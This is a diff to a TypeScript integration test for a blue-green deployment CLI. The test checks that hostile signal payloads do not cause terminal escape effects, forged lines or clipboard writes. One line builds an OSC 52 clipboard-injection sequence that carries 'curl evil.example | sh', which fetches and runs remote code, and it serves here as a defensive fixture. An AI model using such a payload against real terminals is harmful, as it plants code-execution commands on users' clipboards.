@@ -17,21 +17,13 @@ import { join } from 'node:path';
 import { promisify } from 'node:util';
 import type { Client, Connection } from '@temporalio/client';
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
-import { startDeployment } from '../client/start-deployment.js';
 import { startLab, type Lab } from '../lab/index.js';
 import { currentDetails } from '../workflows/current-details.js';
 import { statusQuery, WORKFLOW_TYPE, workflowIdFor } from '../workflows/messages.js';
 import type { DeploymentPlan, DeploymentStatus } from '../workflows/types.js';
 import { BLUEGREEN, ROOT } from './support/cli-runner.js';
-import {
-  connectClient,
-  labPlan,
-  startWorker,
-  taskQueueFor,
-  temporalAddress,
-  waitForStatus,
-  waitingForApproval,
-} from './support/harness.js';
+import { test } from './support/fixture.js';
+import { connectClient, labPlan, taskQueueFor, temporalAddress, waitForStatus, waitingForApproval } from './support/harness.js';
 import { uniqueService } from './support/lab-deployments.js';
 import { removeBundleFile, startWorkerProcess, type WorkerProcess } from './support/worker-process.js';
 
@@ -159,18 +151,14 @@ const SOCKET = `bluegreen-trust-${process.pid}`;
 const tmux = (...args: string[]) => execFileSync('tmux', ['-L', SOCKET, ...args], { encoding: 'utf8' });
 
 describe.skipIf(!hasTmux)('hostile signal payloads, then `bluegreen status` in a terminal', () => {
-  let stopWorker: (() => Promise<void>) | undefined;
-  afterAll(async () => {
+  afterAll(() => {
     spawnSync('tmux', ['-L', SOCKET, 'kill-server']);
-    await stopWorker?.();
   });
 
-  it('shows no escape effect, no forged line, nothing on the clipboard; the Web UI keeps no link', async () => {
-    const taskQueue = taskQueueFor('trust-tty');
-    ({ stop: stopWorker } = await startWorker(lab, taskQueue));
+  // A lab and an in-process worker of this test's own (the fixture's): the file's are the hostile plans'.
+  test('shows no escape effect, no forged line, nothing on the clipboard; the Web UI keeps no link', async ({ deploy }) => {
     const service = uniqueService('trust-tty');
-    const plan = labPlan(lab, service, { approval: { required: true, approvers: ['alice', 'bob'], timeout: '5m' } });
-    const handle = await startDeployment(client, plan, { taskQueue });
+    const { handle } = await deploy(service, { approval: { required: true, approvers: ['alice', 'bob'], timeout: '5m' } });
     await waitForStatus(handle, waitingForApproval);
 
     const OSC52 = `\u001b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\u0007`;
